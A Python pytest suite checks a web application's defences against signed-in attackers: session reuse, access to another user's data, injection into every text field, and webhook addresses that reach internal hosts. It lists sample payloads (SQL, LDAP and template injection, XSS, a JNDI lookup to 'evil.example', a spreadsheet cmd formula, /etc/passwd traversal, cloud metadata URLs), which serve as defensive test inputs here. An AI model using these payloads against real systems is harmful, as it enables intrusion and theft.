"""Who is signed in, and means ill: H38, H39, H41, H42 of the threat model, by number. H44 is
`test_hooks`, H45 is `test_by_provider`.

The whole application over a fake engine; what it takes is read from its own description, so a route that is new is tried too.
"""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from itertools import cycle, product, repeat
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

from folkmoot.app import create_app
from folkmoot.bus import MemoryBus
from folkmoot.config import load
from folkmoot.engine.fake import FakeEngine
from folkmoot.keyring import equipped, new_secrets
from folkmoot.kit import ManualClock
from folkmoot.storage import open_storage, sqlite_url

PASSWORD = "heron lamp river 42"
CANARY = "canarybird"
"""In all that Bo has: no stranger ever reads it."""
METHODS = ("get", "put", "post", "patch", "delete")
INJECTIONS = (
    "'; DROP TABLE accounts; --", "\" OR \"\"=\"", "%' OR '1'='1", "{{7*7}}${7*7}<%= 7*7 %>", "*)(uid=*))(|(uid=*",
    '{"$gt": ""}', "a\r\nSet-Cookie: x=1", "a\x00b", "../../../../etc/passwd", "<img src=x onerror=alert(1)>",
    "%0d%0aBcc: all@example.org", "\u202eevil", "𝕒😀" * 40, "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0",
)  # fmt: skip

ROUNDS = 4
"""Of each address; what is typed into a field is another each time."""
UNSEEN = set("\r\n\x00\u202e")


@dataclass
class Person:
    web: httpx.AsyncClient
    name: str
    me: dict[str, Any] = field(default_factory=dict)

    async def asks(self, method: str, path: str, body: Any = None, **more: Any) -> httpx.Response:
        return await self.web.request(method, path, json=body, **more)

    async def makes(self, path: str, body: Any) -> Any:
        answer = await self.asks("POST", path, body)
        assert answer.is_success, answer.text
        return answer.json() if answer.content else {}


@dataclass
class Town:
    app: FastAPI

    def stranger(self) -> httpx.AsyncClient:
        transport = httpx.ASGITransport(self.app, raise_app_exceptions=False)
        headers = {"sec-fetch-site": "same-origin"}
        return httpx.AsyncClient(transport=transport, base_url="https://localhost", headers=headers)

    async def moves_in(self, name: str) -> Person:
        person = Person(self.stranger(), name)
        wanted = {"name": name, "address": f"{name.split()[0].lower()}@example.org", "password": PASSWORD}
        person.me = (await person.makes("/api/signup", wanted))["account"]
        return person

    def operations(self) -> Iterator[tuple[str, str, dict[str, Any]]]:
        for path, ways in sorted(self.app.openapi()["paths"].items()):
            for method, operation in ways.items():
                if method in METHODS:
                    yield method.upper(), path, operation


@asynccontextmanager
async def built(tmp_path: Path, **settings: Any) -> AsyncIterator[Town]:
    config = equipped(load({"dev": True, "data": tmp_path, **settings}, {}), new_secrets())
    engine = FakeEngine()
    storage = await open_storage(sqlite_url(tmp_path / "folkmoot.db"))
    app = create_app(config, new_secrets(), storage, MemoryBus(), engine, ManualClock())
    async with app.router.lifespan_context(app):
        yield Town(app)
    engine.close()


@pytest.fixture
async def town(tmp_path: Path) -> AsyncIterator[Town]:
    async with built(tmp_path) as town:
        yield town


def cookies(kept: dict[str, str]) -> dict[str, str]:
    return {"cookie": "; ".join(f"{name}={value}" for name, value in kept.items())}


# --- H38 --------------------------------------------------------------------------------------------------------------


async def test_h38_what_was_ended_or_used_is_worth_nothing_when_it_comes_again(town: Town) -> None:
    bo = await town.moves_in("Bo")
    stolen = dict(bo.web.cookies)

    async def thief() -> int:
        return (await town.stranger().get("/api/account", headers=cookies(stolen))).status_code

    assert await thief() == 200
    assert (await bo.asks("POST", "/api/signout")).is_success
    assert await thief() == 401, "signed out"

    signed = await bo.asks("POST", "/api/signin", {"address": "bo@example.org", "password": PASSWORD})
    stolen = dict(signed.cookies)
    again = await bo.asks("POST", "/api/signin", {"address": "bo@example.org", "password": PASSWORD})
    fresh = cookies(dict(again.cookies))
    bo.web.cookies.clear()
    changed = await bo.asks(
        "PUT", "/api/account/password", {"password": PASSWORD + " and more"}, headers=fresh
    )
    assert changed.is_success
    assert await thief() == 401, "every other session ends with the password"
    wanted = {"name": "robot", "scopes": ["account:read"]}
    made = await bo.asks("POST", "/api/account/keys", wanted, headers=fresh)
    key = {"authorization": f"Bearer {made.json()['key']}"}
    assert (await bo.asks("GET", "/api/account", headers=key)).is_success
    await bo.asks("DELETE", f"/api/account/keys/{made.json()['id']}", headers=fresh)
    assert (await bo.asks("GET", "/api/account", headers=key)).json()["code"] == "key.wrong"


# --- H39 --------------------------------------------------------------------------------------------------------------


async def furnished(bo: Person) -> dict[str, str]:
    """Bo has one of everything. By the name of the parameter that it stands for."""
    plan = {"title": CANARY, "notes": CANARY, "starts": "2031-01-06T09:00", "who": "invited"}
    planned = await bo.makes("/api/calendar/meetings", plan | {"people": [{"to": "", "name": CANARY}]})
    template = await bo.makes("/api/calendar/templates", {"name": CANARY, "title": CANARY})
    await bo.makes("/api/account/keys", {"name": CANARY, "scopes": ["account:read"]})
    await bo.makes("/api/webhooks", {"url": f"https://{CANARY}.example/a"})
    org = await bo.makes("/api/orgs", {"name": CANARY})
    group = await bo.makes(f"/api/orgs/{org['id']}/groups", {"name": CANARY})
    await bo.makes(f"/api/orgs/{org['id']}/webhooks", {"url": f"https://{CANARY}.example/b"})
    return {
        "id": planned["id"], "invitation": planned["people"][0]["id"], "number": planned["number"], "n": "1",
        "org": org["id"], "group": group["id"], "template": template["id"], "domain": f"{CANARY}.example",
    }  # fmt: skip


async def looked_at(bo: Person, ids: dict[str, str]) -> dict[str, Any]:
    """All that is Bo's, as Bo sees it."""
    paths = (
        "/api/account", "/api/account/keys", "/api/account/sessions", "/api/webhooks", "/api/calendar",
        f"/api/calendar/meetings/{ids['id']}", "/api/calendar/templates", f"/api/orgs/{ids['org']}",
        f"/api/orgs/{ids['org']}/groups", f"/api/orgs/{ids['org']}/people", f"/api/orgs/{ids['org']}/webhooks",
    )  # fmt: skip
    seen = {path: (await bo.asks("GET", path)).json() for path in paths}
    assert CANARY in json.dumps(seen)
    return seen


def whatever(schema: dict[str, Any], models: dict[str, Any], texts: Iterator[str]) -> Any:
    """Something that the schema allows, with the next of `texts` wherever text may stand."""
    if "$ref" in schema:
        return whatever(models[schema["$ref"].rpartition("/")[2]], models, texts)
    if "anyOf" in schema:
        return whatever(schema["anyOf"][0], models, texts)
    if "enum" in schema:
        return schema["enum"][0]
    match schema.get("type"):
        case "object":
            fields = schema.get("properties", {})
            return {name: whatever(one, models, texts) for name, one in fields.items()}
        case "array":
            return [whatever(schema.get("items", {}), models, texts)]
        case "integer" | "number":
            return schema.get("minimum", 1)
        case "boolean":
            return True
        case _:
            return next(texts)[: schema.get("maxLength", 1000)]


def body_of(operation: dict[str, Any], models: dict[str, Any], texts: Iterator[str]) -> Any:
    content = operation.get("requestBody", {}).get("content", {})
    schema = content.get("application/json", {}).get("schema")
    return None if schema is None else whatever(schema, models, texts)


async def test_h39_what_is_anothers_is_not_there(town: Town) -> None:
    """Every address of the API with an id in it, with Bo's ids, by Ada: nothing is read, nothing is done."""
    bo, ada = await town.moves_in("Bo"), await town.moves_in("Ada")
    ids = await furnished(bo)
    before = await looked_at(bo, ids)
    of = {
        "keys": before["/api/account/keys"][0]["id"], "sessions": before["/api/account/sessions"][0]["id"],
        "webhooks": before["/api/webhooks"][0]["id"], "templates": ids["template"], "people": bo.me["id"],
        "passkeys": "ab", "pictures": "0" * 32, "announcements": "x", "providers": "x",
    }  # fmt: skip
    models, told = town.app.openapi()["components"]["schemas"], dict[str, int]()
    for method, path, operation in town.operations():
        if "{" not in path:
            continue
        words = path.split("/")
        about = words[words.index("{id}") - 1] if "{id}" in words else ""
        filled = path.format_map(Filled(ids | ({"id": of[about]} if about in of else {})))
        answer = await ada.asks(method, filled, body_of(operation, models, repeat("x")))
        said = f"{method} {path}: {answer.status_code} {answer.text[:200]}"
        assert 400 <= answer.status_code < 500, said
        assert CANARY not in answer.text, said
        told[answer.json()["code"]] = told.get(answer.json()["code"], 0) + 1
    assert await looked_at(bo, ids) == before
    unread = told.pop("request.invalid", 0)
    assert sum(told.values()) > 4 * unread, f"most came further than the form: {told}, {unread}"


class Filled(dict[str, str]):
    def __missing__(self, name: str) -> str:
        return "x"


# --- H41 --------------------------------------------------------------------------------------------------------------

DEEDS_OF_ONES_OWN = (
    "/api/signout",
    "/api/account",
    "/api/account/sessions",
    "/api/orgs/{org}",
    "/api/orgs/{org}/leave",
)
"""With DELETE or POST they end the scene."""


async def test_h41_what_is_typed_is_text_wherever_it_is_typed(
    town: Town, capfd: pytest.CaptureFixture[str]
) -> None:
    """Every body and query of the API, injections in every field of text: refused, or kept as it was typed."""
    bo = await town.moves_in("Bo")
    ids = await furnished(bo)
    models, texts = town.app.openapi()["components"]["schemas"], cycle(INJECTIONS)
    for method, path, operation in town.operations():
        if method in ("DELETE", "POST") and path in DEEDS_OF_ONES_OWN:
            continue
        for _ in range(ROUNDS):
            body = body_of(operation, models, texts)
            asked = (one["name"] for one in operation.get("parameters", ()) if one["in"] == "query")
            queries = {name: next(texts) for name in asked}
            if body is None and not queries:
                break
            answer = await bo.asks(method, path.format_map(Filled(ids)), body, params=queries)
            assert answer.status_code < 500, f"{method} {path} with {body} {queries}: {answer.status_code}"
            assert "x" not in answer.cookies, "no header was made of it"
    assert "Traceback" not in "".join(capfd.readouterr())


async def test_h41_a_name_is_kept_as_it_was_typed_or_refused(town: Town) -> None:
    bo = await town.moves_in("Bo")
    kept = 0
    for text in INJECTIONS:
        for method, path, body in (
            ("PATCH", "/api/account", {"name": text}),
            ("POST", "/api/account/keys", {"name": text, "scopes": ["account:read"]}),
            ("POST", "/api/calendar/templates", {"name": text}),
        ):
            answer = await bo.asks(method, path, body)
            if not answer.is_success:
                assert answer.status_code == 422, answer.text
                continue
            name, kept = answer.json()["name"], kept + 1
            assert not set(name) & UNSEEN
            assert name == text or set(text) & UNSEEN, "letter by letter, but for what nobody sees"
    assert kept > 2 * len(INJECTIONS)


async def test_h41_a_search_is_for_the_letters_that_were_typed(town: Town) -> None:
    bo = await town.moves_in("Bo")
    org = (await bo.makes("/api/orgs", {"name": "School"}))["id"]
    for like in ("%", "_", "B_", "' OR 1=1 --", "[a-z]", "*"):
        answer = await bo.asks("GET", f"/api/orgs/{org}/people", params={"q": like})
        assert answer.json()["people"] == [], like
    assert len((await bo.asks("GET", f"/api/orgs/{org}/people", params={"q": "bo"})).json()["people"]) == 1


# --- H42, H43, H44 ----------------------------------------------------------------------------------------------------
# What may be reached, written in every way, and what is read of an answer: server/tests/hooks/test_egress.py.

INSIDE = (
    "https://127.0.0.1/", "https://169.254.169.254/latest/meta-data/", "https://[::1]/",
    "https://[::ffff:10.0.0.1]/", "https://10.0.0.1/", "https://192.168.1.1/", "https://172.16.0.1/",
    "https://2130706433/", "https://0x7f.1/", "https://[fe80::1]/", "https://[fd00::1]/", "https://0.0.0.0/",
    "http://hooks.example/", "gopher://hooks.example/", "file:///etc/passwd", "https://a@127.0.0.1/",
    "https://hooks.example:22/", "https://",
)  # fmt: skip


async def test_h42_no_address_that_somebody_chose_leads_inside(town: Town) -> None:
    ada = await town.moves_in("Ada")
    org = (await ada.makes("/api/orgs", {"name": "School"}))["id"]
    paths = ("/api/webhooks", f"/api/orgs/{org}/webhooks")
    for path, url in product(paths, INSIDE):
        answer = await ada.asks("POST", path, {"url": url, "events": ["room_started"]})
        assert (answer.status_code, answer.json()["code"]) == (422, "hook.address"), url
        assert (await ada.asks("GET", path)).json() == []


async def test_h42_nothing_else_that_is_typed_is_an_address_to_be_fetched(town: Town) -> None:
    """Pictures are uploads, and the sign-ins of organisations are the operator's configuration: a new field has to say so here."""
    fields = {
        (method, path, name)
        for method, path, operation in town.operations()
        for name in named(operation, town.app.openapi())
        if name == "host" or any(word in name for word in ("url", "uri", "href", "issuer", "webhook"))
    }
    hosts = "/api/orgs/{org}/hosts"  # opened at one path, and as webhooks are: `hooks/opening.py`
    assert {path for _, path, _ in fields} == {"/api/webhooks", "/api/orgs/{org}/webhooks", hosts}


async def test_h43_a_mail_server_that_says_nothing_keeps_nobody_waiting(tmp_path: Path) -> None:
    """It takes lines and never speaks, while people sign up, begin a meeting and come to it. What a receiver of webhooks can do so is
    in server/tests/hooks/test_hooks.py."""
    came, ends = asyncio.Event(), asyncio.Event()

    async def silent(_: asyncio.StreamReader, line: asyncio.StreamWriter) -> None:
        came.set()
        await ends.wait()
        line.close()

    listening = await asyncio.start_server(silent, "127.0.0.1", 0)
    port = listening.sockets[0].getsockname()[1]
    mail = {"host": "127.0.0.1", "port": port, "security": "none", "sender": "meet@example.org"}
    async with built(tmp_path, mail=mail, http={"address": "https://localhost"}) as town:
        for name in ("ada", "bo", "cy"):
            wanted = {"name": name, "address": f"{name}@example.org", "password": PASSWORD}
            assert (await Person(town.stranger(), name).makes("/api/signup", wanted))["account"] is None
        async with asyncio.timeout(60):
            await came.wait()
        async with asyncio.timeout(10):  # less than a line to a mail server is waited for
            host = Person(town.stranger(), "Ada")
            made = await host.makes("/api/meetings", {"title": "Physics"})
            at, key = f"/api/meetings/{made['number']}/join", made["host_key"]
            assert (await host.makes(at, {"name": "Ada", "host_key": key}))["role"] == "owner"
            guest = await Person(town.stranger(), "Bo").asks(
                "POST", at, {"name": "Bo", "passcode": made["passcode"]}
            )
            assert guest.status_code == 200, guest.text
        assert not ends.is_set()
        ends.set()
    listening.close()


@asynccontextmanager
async def listening(address: str, answer: bytes, port: int = 0) -> AsyncIterator[tuple[int, list[bytes]]]:
    """Its port, and the first line of whatever came."""
    came = list[bytes]()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        came.append(await reader.readline())
        writer.write(answer)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, address, port)
    async with server:
        yield server.sockets[0].getsockname()[1], came


async def test_h43_neither_a_redirect_nor_a_name_that_turns_leads_a_webhook_inside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`public` stands for the world outside; what is at 127.0.0.1, at the same port, is nobody's business."""
    public, leads = "127.0.0.2", list[str]()
    resolve = socket.getaddrinfo

    def turning(host: Any, *rest: Any, **more: Any) -> Any:
        return resolve(leads.pop(0) if host == "hooks.example" else host, *rest, **more)

    monkeypatch.setattr(socket, "getaddrinfo", turning)
    webhooks = {"allowed_networks": [f"{public}/32"]}
    async with listening("127.0.0.1", b"HTTP/1.1 200 \r\n\r\n") as (port, inside):
        away = f"HTTP/1.1 307 \r\nlocation: http://127.0.0.1:{port}/\r\ncontent-length: 0\r\n\r\n"
        async with (
            listening(public, away.encode(), port) as (_, outside),
            built(tmp_path, webhooks=webhooks) as town,
        ):
            ada = await town.moves_in("Ada")
            there = {"url": f"http://hooks.example:{port}/told", "events": ["room_started"]}
            at = f"/api/webhooks/{(await ada.makes('/api/webhooks', there))['id']}"

            async def tries() -> list[dict[str, str]]:
                return list((await ada.asks("GET", "/api/webhooks")).json()[0]["lately"])

            async def pinged(*leading: str) -> str:
                """How the try ended, as she reads it. The name leads to each in turn, whenever it is asked."""
                leads[:] = leading
                tried = len(await tries())
                await ada.makes(f"{at}/ping", None)
                async with asyncio.timeout(20):
                    lately = await tries()
                    while len(lately) == tried:
                        lately = await tries()
                return str(lately[0]["answer"])

            assert await pinged(public, "127.0.0.1") == "307", (
                "told where it was looked at, and sent on in vain"
            )
            assert leads == ["127.0.0.1"], "the name is asked once for each try"
            assert await pinged("127.0.0.1") == "inside", "the name leads inside by now"
    assert (outside, inside) == ([b"POST /told HTTP/1.1\r\n"], [])


def named(operation: dict[str, Any], document: dict[str, Any]) -> Iterator[str]:
    """Fields of what it takes."""
    body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema", {})
    model = document["components"]["schemas"].get(body.get("$ref", "").rpartition("/")[2], {})
    yield from model.get("properties", {})
